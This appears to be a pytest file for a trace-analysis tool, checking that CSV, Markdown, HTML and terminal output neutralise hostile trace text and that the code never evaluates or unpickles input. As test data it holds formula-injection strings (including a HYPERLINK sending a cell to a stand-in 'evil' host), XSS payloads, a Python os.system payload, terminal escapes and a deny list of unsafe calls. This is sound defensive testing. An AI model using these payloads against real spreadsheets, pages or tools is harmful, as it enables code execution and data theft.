"""Output safety (issue 6): trace-derived text cannot run as a formula, change a Markdown table,
or inject markup into the HTML report; nothing from a trace is ever evaluated or unpickled.
"""

from __future__ import annotations

import ast
import csv
import io
import json
import re
from pathlib import Path

import pandas as pd
import pytest
from bad_inputs import analyze, mini_trace, write

from tracekit.render import formats

ROOT = Path(__file__).resolve().parents[1]

FORMULAS = [
    "=1+1",
    "+1",
    "-1+2",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://evil/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "-",
    "@",
]
MARKDOWN = [
    "a | b",
    "|",
    "`code`",
    "**bold**",
    "_it_",
    "<img src=x onerror=alert(1)>",
    "[link](javascript:alert(1))",
    "![img](http://evil/x.png)",
    "line\nbreak",
    "cr\rret",
    "back\\slash |",
    "<script>alert(1)</script>",
]
HTML_PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    '"><img src=x onerror=alert(3)>',
    "<!--",
    "]]>",
    "\u2028\u2029",
    "&lt;b&gt;",
]


def _string_frame(values: list[str], dtype) -> pd.DataFrame:
    return pd.DataFrame({"name": pd.Series(values, dtype=dtype), "time_ms": range(len(values))})


def _csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("dtype", [object, "category", "string"])
def test_csv_formula_cells_are_neutralised(dtype):
    text = formats.to_csv(_string_frame(FORMULAS, dtype))
    rows = _csv_cells(text)
    assert rows[0] == ["name", "time_ms"]
    for original, row in zip(FORMULAS, rows[1:]):
        cell = row[0]
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (original, cell)
        assert cell == "'" + original.replace("\r", " "), (original, cell)  # kept, not runnable


@pytest.mark.parametrize("brk", ["\r", "\r\n", "\n", "\x0b", "\x0c", "\x85", "\u2028", "\u2029"])
def test_csv_line_breaks_inside_a_name_cannot_start_a_row(brk):
    """pandas does not quote a bare \r (nor \u2028, which str.splitlines breaks on): without
    care, "x\r=cmd|..." became a new row whose first cell is a formula. Breaks become spaces."""
    text = formats.to_csv(_string_frame([f"kernel{brk}=cmd|' /C calc'!A0", "ok"], object))
    rows = _csv_cells(text)
    assert [r[1] for r in rows] == ["time_ms", "0", "1"], rows
    for lines in (text.splitlines(), text.split("\n")):  # naive readers too
        for ln in lines:
            assert not ln.startswith(("=", "+", "@")), (brk, ln)


def test_csv_negative_numbers_stay_numbers():
    df = pd.DataFrame({"phase": ["forward"], "delta_ms": [-1.25], "count": [-3]})
    rows = _csv_cells(formats.to_csv(df))
    assert rows[1] == ["forward", "-1.25", "-3"]


def test_csv_header_from_data_is_neutralised():
    rows = _csv_cells(formats.to_csv(pd.DataFrame({"=bad": ["x"]})))
    assert rows[0] == ["'=bad"]


@pytest.mark.parametrize("dtype", [object, "category", "string"])
def test_markdown_cells_cannot_change_the_table(dtype):
    text = formats.to_markdown("names | <b>", _string_frame(MARKDOWN, dtype))
    lines = text.splitlines()
    assert lines[0].startswith("### ") and "<b>" not in lines[0]
    table = [ln for ln in lines if ln.startswith("|")]
    assert len(table) == 2 + len(MARKDOWN)  # header, rule, one line per row: no row split
    for ln in table:
        # Unescaped pipes delimit cells: every row has exactly the header's 2 columns.
        assert len(re.findall(r"(?<!\\)\|", ln)) == 3, ln
    body = "\n".join(table[2:])
    for ch in "<>[]`*_":  # every markup character reaches the page backslash-escaped
        assert not re.search(r"(?<!\\)" + re.escape(ch), body), (ch, body)


def _hostile_trace() -> dict:
    t = mini_trace()
    payload = " ".join(HTML_PAYLOADS + FORMULAS[:4] + MARKDOWN[:3])
    t["deviceProperties"] = [{"name": "GPU " + payload}]
    t["traceEvents"].append(
        {"ph": "X", "cat": "weird " + payload, "name": payload, "pid": 1, "tid": 1, "ts": 1001, "dur": 1}
    )
    for e in t["traceEvents"]:
        if e.get("cat") == "kernel":
            e["name"] = payload
            e["args"]["Collective name"] = payload
        if e["ph"] == "M":
            e["args"]["name"] = payload
    return t


def test_hostile_names_end_to_end_json_csv_md(tmp_path):
    trace = write(tmp_path / "evil <script>.json", _hostile_trace())
    r = analyze(trace, "--format", "json", "--no-cache")
    assert r.exit_code == 0, r.stderr
    doc = json.loads(r.stdout)  # valid JSON, the names inside as data
    assert any("<script>" in d for d in doc["meta"]["devices"])
    r = analyze(trace, "--format", "csv", "--no-cache", "--per-step")
    assert r.exit_code == 0, r.stderr
    for row in _csv_cells(r.stdout):
        for cell in row:
            if cell.startswith(("=", "+", "-", "@")):
                float(cell)  # only numbers may start like a formula
    r = analyze(trace, "--format", "md", "--no-cache")
    assert r.exit_code == 0, r.stderr
    assert not re.search(r"(?<!\\)<", r.stdout), r.stdout


def test_hostile_names_are_escaped_in_the_html_report(tmp_path):
    trace = write(tmp_path / "evil.json", _hostile_trace())
    benign = write(tmp_path / "benign.json", mini_trace())
    pages = {}
    for name, src in (("evil", trace), ("benign", benign)):
        out = tmp_path / f"{name}.html"
        r = analyze(src, "--format", "html", "--out", out, "--no-cache")
        assert r.exit_code == 0, r.stderr
        pages[name] = out.read_text(encoding="utf-8")
    page = pages["evil"]
    lower = page.lower()
    for raw in ("<script>alert", "</script><script>", "<img src=x", "onerror=alert(3)>"):
        assert raw not in lower, raw
    # The same number of elements as a benign report: no payload opened a tag of its own.
    for tag in ("<script", "</script", "<img", "<iframe", "<!--"):
        assert lower.count(tag) == pages["benign"].lower().count(tag), tag
    for body in re.findall(r"<script[^>]*>(.*?)</script>", page, flags=re.S | re.I):
        # Trace text inside scripts (chart data) cannot end the element or break a JS string.
        assert "<script" not in body.lower() and "\u2028" not in body and "\u2029" not in body
    assert "GPU &lt;script&gt;alert(1)&lt;/script&gt;" in page


# ------------------------------------------------------------------ nothing is evaluated

FORBIDDEN_CALLS = {"eval", "exec", "compile", "__import__", "execfile", "input"}
FORBIDDEN_ATTRS = {
    ("pickle", "load"),
    ("pickle", "loads"),
    ("pickle", "Unpickler"),
    ("cPickle", "loads"),
    ("marshal", "loads"),
    ("marshal", "load"),
    ("shelve", "open"),
    ("yaml", "load"),
    ("yaml", "unsafe_load"),
    ("pd", "read_pickle"),
    ("pandas", "read_pickle"),
    ("torch", "load"),
    ("dill", "loads"),
    ("joblib", "load"),
    ("jsonpickle", "decode"),
}


def _analysis_sources() -> list[Path]:
    return sorted(
        p for d in ("tracekit", "analyses") for p in (ROOT / d).rglob("*.py") if "capture" not in p.parts
    )


#: The places allowed to unpickle, as ``(file, class or function)``: results pickled in memory by
#: tracekit's own processes, never bytes from a trace, a cache entry or any file.
#: * a pool worker's result, opened by the parent just before it is gathered
#:   (``pool._Sealed``): the same message multiprocessing and Dask unpickle for every result
#:   anyway, only opened later (a test below checks that nothing else constructs or opens one);
#: * what a forked child sends back (``forked.receive``): its share of the jobs
#:   (``forked.share``) or its columns (``read.parallel``), read from a pipe or an in-memory
#:   file the parent made before the fork, which no other process writes.
IPC_UNPICKLE = {("tracekit/ranks/pool.py", "_Sealed"), ("tracekit/forked.py", "receive")}


def _allowed_lines(path: Path, tree: ast.Module) -> set[int]:
    names = {name for file, name in IPC_UNPICKLE if file == path.relative_to(ROOT).as_posix()}
    kinds = (ast.ClassDef, ast.FunctionDef)
    defs = [n for n in tree.body if isinstance(n, kinds) and n.name in names]
    return {n.lineno for d in defs for n in ast.walk(d) if hasattr(n, "lineno")}


def test_no_eval_or_unpickling_in_the_analysis_code():
    """The path from a trace to the tables never evaluates or unpickles anything (static check),
    except tracekit's own processes' results (:data:`IPC_UNPICKLE`)."""
    found = []
    for path in _analysis_sources():
        tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
        allowed = _allowed_lines(path, tree)
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call) or node.lineno in allowed:
                continue
            f = node.func
            if isinstance(f, ast.Name) and f.id in FORBIDDEN_CALLS:
                found.append(f"{path.relative_to(ROOT)}:{node.lineno}: {f.id}()")
            elif (
                isinstance(f, ast.Attribute)
                and isinstance(f.value, ast.Name)
                and (f.value.id, f.attr) in FORBIDDEN_ATTRS
            ):
                found.append(f"{path.relative_to(ROOT)}:{node.lineno}: {f.value.id}.{f.attr}()")
            elif (
                isinstance(f, ast.Attribute)
                and f.attr == "load"
                and isinstance(f.value, ast.Name)
                and f.value.id in ("np", "numpy")
            ) and not any(
                k.arg == "allow_pickle" and isinstance(k.value, ast.Constant) and k.value.value is False
                for k in node.keywords
            ):
                found.append(f"{path.relative_to(ROOT)}:{node.lineno}: np.load without allow_pickle=False")
    assert not found, "\n".join(found)


def test_sealed_results_are_made_and_opened_only_by_the_pool():
    """The allowed unpickling stays where it is: ``_Sealed`` is built only by a worker's attempt
    and opened only where the parent gathers a result, in ranks/pool.py; no other module names it."""
    uses = []
    for path in _analysis_sources():
        text = path.read_text(encoding="utf-8")
        for node in ast.walk(ast.parse(text, filename=str(path))):
            if isinstance(node, ast.Name | ast.Attribute) and "_Sealed" in (
                getattr(node, "id", None),
                getattr(node, "attr", None),
            ):
                uses.append(path.relative_to(ROOT).as_posix())
    assert uses and set(uses) == {"tracekit/ranks/pool.py"}, uses


def test_taxonomy_files_are_data_not_code(tmp_path):
    """User TOML rules are parsed as data: a Python payload in them is just a string."""
    rules = tmp_path / "rules.toml"
    rules.write_text(
        "[[module]]\nmatch = \"__import__('os').system('touch PWNED')\"\ncategory = \"=1+1\"\n",
        encoding="utf-8",
    )
    trace = write(tmp_path / "t.json", mini_trace())
    r = analyze(trace, "--taxonomy", rules, "--format", "json", "--no-cache")
    assert r.exit_code in (0, 2), r.stderr
    assert not (Path.cwd() / "PWNED").exists() and not (tmp_path / "PWNED").exists()


def test_terminal_output_strips_escape_sequences():
    """A kernel name with terminal escape sequences cannot drive the user's terminal."""
    import io

    import pandas as pd
    from rich.console import Console

    from tracekit.render.terminal import render

    evil = "gemm\x1b[2J\x1b]0;pwned\x07\x9b31m"
    tables = {
        "kernels": pd.DataFrame(
            {
                "group": ["compute"],
                "category": [evil],
                "count": [1],
                "time_ms": [1.0],
                "kernel_ms": [1.0],
                "percent": [100.0],
            }
        )
    }
    buf = io.StringIO()
    render(
        {"path": "t.json", "mode": "gpu", "devices": [evil]},
        tables,
        Console(file=buf, width=200, force_terminal=False),
    )
    out = buf.getvalue()
    assert "gemm" in out
    for ch in ("\x1b", "\x07", "\x9b"):
        assert ch not in out
